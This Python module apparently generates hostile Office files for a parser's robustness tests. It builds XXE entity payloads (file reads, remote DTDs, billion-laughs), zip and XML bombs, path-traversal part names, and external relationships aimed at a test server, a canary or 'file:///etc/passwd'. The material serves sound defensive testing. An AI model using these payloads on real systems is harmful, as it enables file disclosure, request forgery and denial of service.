"""Office packages that are wrong as packages: cut, bombs, entities, odd names and relations."""

import io
import random
import zipfile
from collections.abc import Iterator

from tools.hostile import parts
from tools.hostile.entry import REPORTS, SURVEYS, Entry, Scene

_CUTS = 50
_FUZZED = 12


def package_entries(scene: Scene, dice: random.Random) -> Iterator[Entry]:
    """Workbooks and Word documents, broken in the way of zips and of XML."""
    yield from _truncated()
    yield from _fuzzed(dice)
    yield from _entities(scene)
    yield from _bombs()
    yield from _odd_packages(scene)


def _book(name: str, tries: str, content: bytes, suffix: str = "xlsx") -> Entry:
    return Entry(name, tries, f"{SURVEYS}/{name}.{suffix}", content)


def _report(name: str, tries: str, content: bytes, suffix: str = "docx") -> Entry:
    return Entry(name, tries, f"{REPORTS}/{name} S10802.{suffix}", content)


def _truncated() -> Iterator[Entry]:
    """The same workbook or document, cut at fifty places from its first byte to its last."""
    for number in range(_CUTS):
        whole = parts.workbook() if number % 2 else parts.document()
        cut = whole[: len(whole) * number // _CUTS]
        make = _book if number % 2 else _report
        yield make(f"cut-{number:02}", f"cut after {len(cut)} of {len(whole)} bytes", cut)


def _fuzzed(dice: random.Random) -> Iterator[Entry]:
    """XML with a few bytes changed, in a sound package; and packages with a few bytes changed."""
    for number in range(_FUZZED):
        sheet = _with_changed_bytes(dice, parts.answers_sheet().encode())
        yield _book(
            f"fuzzed-sheet-{number:02}", "a worksheet with changed bytes", parts.workbook(sheet)
        )
        whole = parts.document_parts()
        text = _with_changed_bytes(dice, str(whole["word/document.xml"]).encode())
        changed = parts.document(document=text)
        yield _report(f"fuzzed-text-{number:02}", "a document with changed bytes", changed)
        raw = _with_changed_bytes(dice, parts.workbook())
        yield _book(f"fuzzed-zip-{number:02}", "a package with changed bytes", raw)


def _with_changed_bytes(dice: random.Random, content: bytes) -> bytes:
    changed = bytearray(content)
    for _ in range(dice.randint(1, 8)):
        changed[dice.randrange(len(changed))] = dice.randrange(256)
    return bytes(changed)


# --- Entities ---------------------------------------------------------------------------------


def _entities(scene: Scene) -> Iterator[Entry]:
    heads = {
        "file": f'<!DOCTYPE x [<!ENTITY leak SYSTEM "{scene.canary}">]>',
        "http": f'<!DOCTYPE x [<!ENTITY leak SYSTEM "{scene.server}/entity">]>',
        "dtd": f'<!DOCTYPE x SYSTEM "{scene.server}/x.dtd" [<!ENTITY leak "x">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % far SYSTEM "{scene.server}/p"> %far;'
        '<!ENTITY leak "x">]>',
        "laughs": "<!DOCTYPE x [<!ENTITY a0 'ha'>"
        + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
        + "<!ENTITY leak '&a9;'>]>",
        "quadratic": f"<!DOCTYPE x [<!ENTITY leak '{'x' * 100_000}'>]>",
    }
    for name, head in heads.items():
        times = 2_000 if name == "quadratic" else 1
        cells = (*parts.ANSWERS[:3], "LEAK", *parts.ANSWERS[4:])
        rows = [parts.row(1, parts.HEADER), parts.row(2, cells)]
        book = parts.sheet(rows, head=parts.DECLARATION + head).replace("LEAK", "&leak;" * times)
        yield _book(f"entity-{name}", f"an entity ({name}) in a worksheet", parts.workbook(book))
        body = parts.report_body() + parts.paragraph("LEAK")
        text = str(parts.document_parts(body, head=parts.DECLARATION + head)["word/document.xml"])
        document = parts.document(document=text.replace("LEAK", "&leak;" * times))
        yield _report(f"entity-{name}", f"an entity ({name}) in a Word document", document)
        content = parts.open_document_content(
            parts.open_document_row(parts.HEADER) + parts.open_document_row(cells),
            parts.DECLARATION + head,
        ).replace("LEAK", "&leak;" * times)
        yield _book(
            f"entity-{name}",
            f"an entity ({name}) in a spreadsheet",
            parts.open_document(content),
            "ods",
        )


# --- Bombs ------------------------------------------------------------------------------------


def _bombs() -> Iterator[Entry]:
    zeros = b"0" * 300_000_000
    bomb = parts.sheet([parts.row(1, parts.HEADER)], after="<!--PAD-->").encode()
    yield _book(
        "bomb-sheet", "a worksheet of 300 MB of zeros", parts.workbook(bomb.replace(b"PAD", zeros))
    )
    body = parts.report_body().encode()
    text = str(parts.document_parts("BODY")["word/document.xml"]).encode()
    text = text.replace(b"BODY", body + b"<!--" + zeros + b"-->")
    yield _report("bomb-text", "a document of 300 MB of zeros", parts.document(document=text))
    del zeros, text, bomb
    many = parts.workbook_parts() | {f"xl/media/{number}.bin": b"" for number in range(20_000)}
    yield _book("bomb-parts", "a package of 20,000 parts", parts.package(many))
    many = parts.document_parts() | {f"word/media/{number}.bin": b"" for number in range(20_000)}
    yield _report("bomb-parts", "a document of 20,000 parts", parts.package(many))
    nested = parts.workbook()
    for _ in range(12):
        nested = parts.package({"xl/workbook.xml": nested, "inner.xlsx": nested})
    yield _book("nested", "packages in packages, twelve deep", nested)
    yield _book("lying-size", "a part that says it is small and is not", _lying_size())
    deep = "<x>" * 200_000 + "</x>" * 200_000
    yield _book("deep-xml", "a worksheet of 200,000 elements in each other", parts.workbook(
        parts.sheet([parts.row(1, parts.HEADER)], after=deep)))  # fmt: skip
    deep = "<w:ins>" * 50_000 + "<w:r><w:t>x</w:t></w:r>" + "</w:ins>" * 50_000
    yield _report(
        "deep-xml",
        "a document of 50,000 elements in each other",
        parts.document(f"<w:p>{deep}</w:p>"),
    )
    deep = "<w:tbl><w:tr><w:tc>" * 150 + parts.paragraph("x") + "</w:tc></w:tr></w:tbl>" * 150
    yield _report(
        "deep-tables", "150 tables in each other", parts.document(parts.report_body() + deep)
    )
    huge = '<x a="' + "a" * 11_000_000 + '"/>'
    yield _report("huge-attribute", "an attribute of 11 MB", parts.document(huge))
    ods = parts.open_document_content(
        parts.open_document_row(parts.HEADER)
        + parts.open_document_row(parts.ANSWERS, 'table:number-rows-repeated="1048575"')
    )
    yield _book(
        "repeated-rows", "a row that is repeated a million times", parts.open_document(ods), "ods"
    )
    ods = parts.open_document_content(
        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell '
        'table:number-columns-repeated="16000" office:value-type="string">'
        "<text:p>x</text:p></table:table-cell></table:table-row>"
    )
    yield _book("repeated-cells", "sixteen thousand million cells", parts.open_document(ods), "ods")


def _lying_size() -> bytes:
    """A local header and directory that give one part a tenth of its size."""
    sheet = parts.sheet(parts.row(number, parts.ANSWERS) for number in range(1, 2_000))
    raw = bytearray(parts.workbook(sheet))
    size = len(sheet.encode()).to_bytes(4, "little")
    small = (len(sheet.encode()) // 10).to_bytes(4, "little")
    return bytes(raw.replace(size, small))


# --- Odd packages -----------------------------------------------------------------------------


def _odd_packages(scene: Scene) -> Iterator[Entry]:
    traversal = {"../../../../outside.xml": "x", "/etc/outside.xml": "x", "C:\\outside.xml": "x"}
    yield _book(
        "traversal", "parts named to lie outside", parts.package(parts.workbook_parts() | traversal)
    )
    yield _report(
        "traversal", "parts named to lie outside", parts.package(parts.document_parts() | traversal)
    )
    far = f'<Relationship Id="rId9" Type="{parts.OFFICE}/TYPE" Target="TARGET" TargetMode="External"/>'
    for kind, target in (
        ("attachedTemplate", f"{scene.server}/template.dotm"),
        ("image", f"{scene.server}/pixel.png"),
        ("oleObject", scene.canary),
        ("subDocument", scene.canary),
    ):
        extra = far.replace("TYPE", kind).replace("TARGET", target)
        document = parts.document_parts() | {
            "word/_rels/document.xml.rels": parts.relations(extra=extra)
        }
        yield _report(f"far-{kind}", f"a relation ({kind}) to outside", parts.package(document))
    extra = far.replace("TYPE", "externalLinkPath").replace("TARGET", scene.canary)
    book = parts.workbook_parts() | {
        "xl/externalLinks/externalLink1.xml": "<x/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": parts.relations(extra=extra),
    }
    yield _book("far-workbook", "a link to another workbook", parts.package(book))
    rels = parts.relations(("worksheet", "../../../outside/canary.txt"))
    yield _book("far-sheet", "a worksheet that lies outside", parts.workbook(workbook_rels=rels))
    rels = parts.relations(("officeDocument", "file:///etc/passwd"))
    yield _report("far-body", "a body that lies outside", parts.document(rels=rels))
    yield _book(
        "no-workbook",
        "a package without a workbook",
        parts.package({"[Content_Types].xml": "<x/>"}),
    )
    yield _book(
        "no-relations", "a workbook without relations", parts.workbook(rels="", workbook_rels="")
    )
    yield _report("no-body", "a document without a body", parts.document(document="<x/>"))
    circle = parts.relations(("officeDocument", "_rels/.rels"))
    yield _report("circle", "relations that lead to themselves", parts.document(rels=circle))
    yield _book("twice", "the same part twice", _twice())
    yield _book(
        "stored",
        "parts without compression",
        parts.package(parts.workbook_parts(), zipfile.ZIP_STORED),
    )
    yield _book(
        "lzma",
        "a way of packing that Office lacks",
        parts.package(parts.workbook_parts(), zipfile.ZIP_LZMA),
    )
    yield _book(
        "bzip2",
        "a way of packing that Office lacks",
        parts.package(parts.workbook_parts(), zipfile.ZIP_BZIP2),
    )
    yield _book("zip-password", "parts with a zip password", _with_password_flag())
    yield _report("zip-password", "parts with a zip password", _with_password_flag())
    yield _book("before-zip", "bytes before the package", b"MZ" + bytes(500) + parts.workbook())
    yield _book("after-zip", "bytes after the package", parts.workbook() + bytes(70_000))
    yield _book("comment", "a comment of 64 kB", _with_comment())
    macros = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}
    yield _book(
        "macros", "a workbook with macros", parts.package(parts.workbook_parts() | macros), "xlsm"
    )
    macros = {
        "word/vbaProject.bin": macros["xl/vbaProject.bin"],
        "word/embeddings/a.bin": b"MZ" * 90,
    }
    yield _report(
        "macros",
        "a document with macros and a program",
        parts.package(parts.document_parts() | macros),
    )
    yield _book("encrypted", "a workbook with a password", _compound("EncryptedPackage"))
    yield _report("encrypted", "a document with a password", _compound("EncryptedPackage"))
    yield _report("old-word", "a .doc under the name .docx", _compound("WordDocument"))
    yield _book("old-excel-broken", "an .xls that says nothing", _compound("Workbook"), "xls")
    yield _book(
        "compound-zeros",
        "a compound file of zeros",
        _compound("Workbook")[:8] + bytes(4_000),
        "xls",
    )
    utf16 = parts.answers_sheet().replace("UTF-8", "UTF-16").encode("utf-16")
    yield _book("utf-16", "XML in UTF-16", parts.workbook(utf16))
    latin = parts.answers_sheet().replace("UTF-8", "ISO-8859-1").encode("latin-1")
    yield _book("latin-1", "XML in Latin-1", parts.workbook(latin))
    false = parts.answers_sheet().replace("UTF-8", "UTF-7").encode()
    yield _book("utf-7", "XML that says UTF-7", parts.workbook(false))


def _twice() -> bytes:
    buffer = io.BytesIO(parts.workbook())
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("xl/worksheets/sheet1.XML".lower(), (2014, 12, 16, 0, 0, 0))
        # zipfile warns of a name that is there already; that is the point.
        archive.NameToInfo.clear()
        archive.writestr(info, "<x/>")
    return buffer.getvalue()


def _with_password_flag() -> bytes:
    """A package whose parts claim to be encrypted: bit 0 of the flags in both headers."""
    raw = bytearray(parts.workbook())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + offset] |= 1
            at = raw.find(mark, at + 4)
    return bytes(raw)


def _with_comment() -> bytes:
    buffer = io.BytesIO(parts.workbook())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.comment = b"PK\x05\x06" * 16_000
    return buffer.getvalue()


def _compound(stream: str) -> bytes:
    """A compound file that is all header but for the name of one stream."""
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
    )
    return header.ljust(512, b"\xff") + stream.encode("utf-16-le").ljust(1_536, b"\0")
